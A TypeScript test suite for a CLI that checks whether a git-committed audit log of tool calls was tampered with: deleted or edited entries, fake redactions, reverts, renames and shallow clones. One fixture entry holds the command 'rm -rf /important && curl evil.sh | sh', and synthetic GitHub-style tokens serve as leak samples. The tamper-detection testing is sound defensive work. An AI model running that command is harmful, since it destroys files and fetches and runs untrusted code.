import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { makeRepo, runCli, type TempRepo, tempDir, testEnv } from '../helpers/git-repo.js';

let repo: TempRepo;
afterEach(() => repo?.cleanup());

const entry = (id: string, hour: number, extra: object = {}) =>
  JSON.stringify({
    id,
    timestamp: `2026-11-24T${String(hour).padStart(2, '0')}:00:00.000Z`,
    session_id: 's',
    seq: hour,
    tool: 'Bash',
    ...extra,
  });

function setPartition(name: string, lines: string[]): void {
  mkdirSync(join(repo.root, 'logs', 'history'), { recursive: true });
  writeFileSync(join(repo.root, 'logs', 'history', name), lines.map((l) => `${l}\n`).join(''));
}

function commitAll(message: string): string {
  repo.git('add', '-A');
  repo.git('commit', '-q', '-m', message);
  return repo.git('rev-parse', 'HEAD');
}

/** A history that grew over three commits, the last one a verify --fix style move. */
function growHistory(): void {
  setPartition('2026-11-24.jsonl', [entry('a', 1)]);
  commitAll('one');
  setPartition('2026-11-24.jsonl', [entry('a', 1), entry('b', 2)]);
  setPartition('2026-11-23.jsonl', [entry('misplaced', 3)]);
  commitAll('two');
  // The misplaced entry moves to its right partition: moved, not removed.
  rmSync(join(repo.root, 'logs', 'history', '2026-11-23.jsonl'));
  setPartition('2026-11-24.jsonl', [entry('a', 1), entry('b', 2), entry('misplaced', 3)]);
  commitAll('three');
}

describe('audit-hooks verify --history', () => {
  it('passes a trail that only grew (entries moved between partitions included)', () => {
    repo = makeRepo();
    growHistory();
    const run = repo.cli(['verify', '--history']);
    expect(run.stderr).toBe('');
    expect(run.stdout).toBe(
      'audit-hooks: the committed trail only grew: 3 commits checked, nothing removed or altered\n',
    );
    expect(run.status).toBe(0);
  });

  it('catches a commit that deletes one line', () => {
    repo = makeRepo();
    growHistory();
    setPartition('2026-11-24.jsonl', [entry('a', 1), entry('misplaced', 3)]);
    const bad = commitAll('drop b');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe(
      `${bad.slice(0, 12)} logs/history/2026-11-24.jsonl: entry b removed\n` +
        `tip: entry b is missing (committed in logs/history/2026-11-24.jsonl; first taken away by ${bad.slice(0, 12)}: \`git checkout ${bad.slice(0, 12)}~1 -- logs/history/2026-11-24.jsonl\` restores the file as it was)\n`,
    );
    expect(run.stderr).toMatch(
      /^audit-hooks: 1 committed entry is missing or altered at the tip \(4 commits checked\)/,
    );
  });

  it('catches a commit that edits a field', () => {
    repo = makeRepo();
    growHistory();
    setPartition('2026-11-24.jsonl', [
      entry('a', 1, { tool: 'Edit' }),
      entry('b', 2),
      entry('misplaced', 3),
    ]);
    const bad = commitAll('edit a');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe(
      `${bad.slice(0, 12)} logs/history/2026-11-24.jsonl: entry a altered (tool)\n` +
        `tip: entry a is altered (committed in logs/history/2026-11-24.jsonl; first taken away by ${bad.slice(0, 12)}: \`git checkout ${bad.slice(0, 12)}~1 -- logs/history/2026-11-24.jsonl\` restores the file as it was)\n`,
    );
  });

  it('catches a commit that drops a whole partition, and a range can skip it', () => {
    repo = makeRepo();
    growHistory();
    rmSync(join(repo.root, 'logs', 'history', '2026-11-24.jsonl'));
    const bad = commitAll('drop the day');
    setPartition('2026-11-25.jsonl', [
      JSON.stringify({ id: 'later', timestamp: '2026-11-25T01:00:00Z' }),
    ]);
    commitAll('later');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(1);
    expect(run.stdout.split('\n').filter(Boolean).sort()).toEqual([
      ...['a', 'b', 'misplaced'].map(
        (id) => `${bad.slice(0, 12)} logs/history/2026-11-24.jsonl: entry ${id} removed`,
      ),
      ...['a', 'b', 'misplaced'].map(
        (id) =>
          `tip: entry ${id} is missing (committed in logs/history/2026-11-24.jsonl; first taken away by ${bad.slice(0, 12)}: \`git checkout ${bad.slice(0, 12)}~1 -- logs/history/2026-11-24.jsonl\` restores the file as it was)`,
      ),
    ]);
    expect(repo.cli(['verify', '--history', `${bad}..HEAD`]).status).toBe(0);
    expect(repo.cli(['verify', 'HEAD']).status).toBe(2); // a range needs --history
    const both = repo.cli(['verify', '--history', '--fix']); // commits are not repaired
    expect(both.status).toBe(2);
    expect(both.stderr).toMatch(/--fix repairs the working history, not commits/);
  });

  it('reports a redaction as a redaction, not as tampering', () => {
    repo = makeRepo();
    const token = `ghp_${'Ab1'.repeat(12)}`;
    setPartition('2026-11-24.jsonl', [
      entry('a', 1, { command: `curl -H "Authorization: token ${token}" x` }),
    ]);
    commitAll('leak');
    setPartition('2026-11-24.jsonl', [
      entry('a', 1, {
        command: 'curl -H "Authorization: token [REDACTED:github-token]" x',
        redacted: ['command'],
      }),
    ]);
    const fix = commitAll('redact');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(0);
    expect(run.stdout).toBe(
      `${fix.slice(0, 12)} logs/history/2026-11-24.jsonl: entry a redacted (command): a redaction, not tampering\n` +
        'audit-hooks: the committed trail only grew: 2 commits checked, 1 redaction, nothing removed or altered\n',
    );
    // Replacing a value with something that is not a redaction marker is tampering.
    setPartition('2026-11-24.jsonl', [entry('a', 1, { command: 'ls', redacted: ['command'] })]);
    commitAll('rewrite');
    expect(repo.cli(['verify', '--history']).status).toBe(1);
  });

  it('walks 1,000 commits in one git process', () => {
    repo = makeRepo();
    // git fast-import makes the 1,000 commits quickly; each appends one entry.
    let stream = '';
    const lines: string[] = [];
    for (let i = 0; i < 1000; i++) {
      lines.push(entry(`e${String(i).padStart(4, '0')}`, i % 24, { i }));
      const content = `${lines.join('\n')}\n`;
      const message = `entry ${i}`;
      stream += `commit refs/heads/main\ncommitter T <t@example.test> ${1_700_000_000 + i} +0000\n`;
      stream += `data ${Buffer.byteLength(message)}\n${message}\n`;
      if (i === 0) stream += 'from refs/heads/main^0\n';
      stream += `M 100644 inline logs/history/2026-11-24.jsonl\ndata ${Buffer.byteLength(content)}\n${content}\n`;
    }
    execFileSync('git', ['fast-import', '--quiet'], {
      cwd: repo.root,
      input: stream,
      env: testEnv(),
    });
    repo.git('reset', '-q', '--hard', 'main');
    expect(
      readFileSync(join(repo.root, 'logs', 'history', '2026-11-24.jsonl'), 'utf8').split('\n'),
    ).toHaveLength(1001);

    const run = repo.cli(['verify', '--history', '--json']);

    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual({
      commits: 1000,
      findings: [],
      missing: [],
      ok: true,
      shallow: false,
    });
  });
});

/** A v2 batch file (content-named) with these lines, in the worktree. */
function setBatch(
  lines: string[],
  name = `20261124T${String(lines.length).padStart(2, '0')}0000000Z-${'a'.repeat(20)}.jsonl`,
): string {
  const dir = join(repo.root, 'logs', 'history', '2026-11-24');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, name), lines.map((l) => `${l}\n`).join(''));
  return `logs/history/2026-11-24/${name}`;
}

describe('audit-hooks verify --history on v2 batch files', () => {
  it('passes when every commit only added batch files', () => {
    repo = makeRepo();
    setBatch([entry('a', 1)], `20261124T010000000Z-${'1'.repeat(20)}.jsonl`);
    commitAll('one');
    setBatch([entry('b', 2), entry('c', 3)], `20261124T030000000Z-${'2'.repeat(20)}.jsonl`);
    commitAll('two');
    const run = repo.cli(['verify', '--history']);
    expect(run.stdout).toBe(
      'audit-hooks: the committed trail only grew: 2 commits checked, nothing removed or altered\n',
    );
    expect(run.status).toBe(0);
  });

  it('reports a modified batch file, and fails while the tip lacks what it held', () => {
    repo = makeRepo();
    const file = setBatch([entry('a', 1), entry('b', 2)]);
    commitAll('one');
    writeFileSync(join(repo.root, file), `${entry('a', 1)}\n`);
    const bad = commitAll('drop b');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe(
      `${bad.slice(0, 12)} ${file}: batch file modified: batch files are never changed once committed\n` +
        `tip: entry b is missing (committed in ${file}; first taken away by ${bad.slice(0, 12)}: \`git checkout ${bad.slice(0, 12)}~1 -- ${file}\` restores the file as it was)\n`,
    );
  });

  it('lists a deletion that was later reverted, and passes: the tip is whole', () => {
    repo = makeRepo();
    const file = setBatch([entry('a', 1)]);
    commitAll('one');
    rmSync(join(repo.root, file));
    const bad = commitAll('delete');
    repo.git('revert', '--no-edit', 'HEAD');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(0);
    expect(run.stdout).toBe(
      `${bad.slice(0, 12)} ${file}: batch file deleted: batch files are never changed once committed\n` +
        'audit-hooks: the committed trail only grew: 3 commits checked, 1 change listed above, all undone or harmless: every entry ever committed is at the tip\n',
    );
  });

  it('an edit that is reverted leaves the tip whole; the restore the message names makes it whole too', () => {
    repo = makeRepo();
    const file = setBatch([entry('a', 1, { text: 'original' })]);
    commitAll('one');
    writeFileSync(join(repo.root, file), `${entry('a', 1, { text: 'EDITED' })}\n`);
    const bad = commitAll('tamper');
    repo.git('revert', '--no-edit', 'HEAD');
    expect(repo.cli(['verify', '--history']).status).toBe(0);

    // Tampered again, then restored as the finding says (not from the revert's parent).
    writeFileSync(join(repo.root, file), `${entry('a', 1, { text: 'EDITED' })}\n`);
    const again = commitAll('tamper again');
    const failed = repo.cli(['verify', '--history']);
    expect(failed.status).toBe(1);
    expect(failed.stdout).toContain(
      `first taken away by ${bad.slice(0, 12)}: \`git checkout ${bad.slice(0, 12)}~1 -- ${file}\``,
    );
    repo.git('checkout', `${bad}~1`, '--', file);
    commitAll('restore');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain(`${again.slice(0, 12)} ${file}: batch file modified`);
  });

  it('lists a renamed batch file; its entries are still there', () => {
    repo = makeRepo();
    const file = setBatch([entry('a', 1)]);
    commitAll('one');
    mkdirSync(join(repo.root, 'logs', 'history', '2026-11-25'));
    const moved = file.replace('2026-11-24', '2026-11-25');
    repo.git('mv', file, moved);
    const renamed = commitAll('move');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(0);
    expect(run.stdout.split('\n')[0]).toBe(
      `${renamed.slice(0, 12)} ${file}: batch file renamed to ${moved}`,
    );
  });

  it('reports a redacted batch file as a redaction, not tampering', () => {
    repo = makeRepo();
    const token = `ghp_${'Ab1'.repeat(12)}`;
    const file = setBatch([entry('a', 1, { command: `gh auth login --with-token ${token}` })]);
    commitAll('leak');
    setBatch([
      entry('a', 1, {
        command: 'gh auth login --with-token [REDACTED:github-token]',
        redacted: ['command'],
      }),
    ]);
    const fix = commitAll('redact');
    const run = repo.cli(['verify', '--history']);
    expect(run.status).toBe(0);
    expect(run.stdout.split('\n')[0]).toBe(
      `${fix.slice(0, 12)} ${file}: batch file redacted: a redaction, not tampering`,
    );
  });

  it('a value swapped for a redaction marker by hand is tampering, not a redaction', () => {
    repo = makeRepo();
    const file = setBatch([entry('a', 1, { command: 'rm -rf /important && curl evil.sh | sh' })]);
    commitAll('evil');
    setBatch([entry('a', 1, { command: '[REDACTED:github-token]', redacted: ['command'] })]);
    const hide = commitAll('hide it');

    const run = repo.cli(['verify', '--history']);

    expect(run.status).toBe(1);
    expect(run.stdout).toContain(
      `${hide.slice(0, 12)} ${file}: batch file modified: batch files are never changed once committed`,
    );
    expect(run.stdout).toContain(
      `tip: entry a is altered (committed in ${file}; first taken away by ${hide.slice(0, 12)}`,
    );
  });

  it('after a real redaction, a later edit is blamed on its own commit, and the restore it names keeps the secret out', () => {
    repo = makeRepo();
    const token = `ghp_${'Cd2'.repeat(12)}`;
    const line = entry('a', 1, { event: 'leak', command: `echo ${token}` });
    const sha = createHash('sha256').update(`${line}\n`).digest('hex').slice(0, 20);
    const file = setBatch([line], `20261124T010000000Z-${sha}.jsonl`);
    commitAll('leak');
    expect(repo.cli(['verify', '--fix']).status).toBe(0);
    commitAll('redact');
    expect(repo.cli(['verify']).stdout).toContain(`${file}: note: redacted after it was written`);
    const redacted = readFileSync(join(repo.root, file), 'utf8');
    writeFileSync(join(repo.root, file), redacted.replace('"event":"leak"', '"event":"LEAK"'));
    // Plain verify sees the edit before it is committed.
    const before = repo.cli(['verify']);
    expect(before.stdout).toContain(`${file}: edited after it was written`);
    expect(before.status).toBe(1);
    const tamper = commitAll('tamper');

    const run = repo.cli(['verify', '--history']);

    expect(run.status).toBe(1);
    const restore = `git checkout ${tamper.slice(0, 12)}~1 -- ${file}`;
    expect(run.stdout).toContain(
      `tip: entry a is altered (committed in ${file}; first taken away by ${tamper.slice(0, 12)}: \`${restore}\``,
    );
    repo.git('checkout', `${tamper.slice(0, 12)}~1`, '--', file);
    expect(readFileSync(join(repo.root, file), 'utf8')).toBe(redacted);
    expect(redacted).not.toContain(token);
  });

  it('says so in a shallow clone, and checks what it has', () => {
    repo = makeRepo();
    setBatch([entry('a', 1)], `20261124T010000000Z-${'1'.repeat(20)}.jsonl`);
    commitAll('one');
    setBatch([entry('b', 2)], `20261124T020000000Z-${'2'.repeat(20)}.jsonl`);
    commitAll('two');
    const clone = join(tempDir(), 'shallow');
    execFileSync('git', ['clone', '-q', '--depth', '1', `file://${repo.root}`, clone], {
      env: testEnv(),
    });
    const run = runCli(['verify', '--history'], { cwd: clone });
    expect(run.status).toBe(0);
    expect(run.stderr).toMatch(
      /note: this clone is shallow, so only the commits it has were checked/,
    );
    expect(run.stdout).toMatch(/1 commit checked/);
  });

  it('checks 1,000 commits of batch files from file status alone', () => {
    repo = makeRepo();
    let stream = '';
    for (let i = 0; i < 1000; i++) {
      const content = `${entry(`e${i}`, i % 24, { i })}\n`;
      const name = `20261124T${String(i % 24).padStart(2, '0')}0000000Z-${String(i).padStart(20, '0')}.jsonl`;
      stream += `commit refs/heads/main\ncommitter T <t@example.test> ${1_700_000_000 + i} +0000\n`;
      stream += `data 5\nbatch\n`;
      if (i === 0) stream += 'from refs/heads/main^0\n';
      stream += `M 100644 inline logs/history/2026-11-24/${name}\ndata ${Buffer.byteLength(content)}\n${content}\n`;
    }
    execFileSync('git', ['fast-import', '--quiet'], {
      cwd: repo.root,
      input: stream,
      env: testEnv(),
    });
    const run = repo.cli(['verify', '--history', '--json']);
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ commits: 1000, findings: [], ok: true });
  });
});
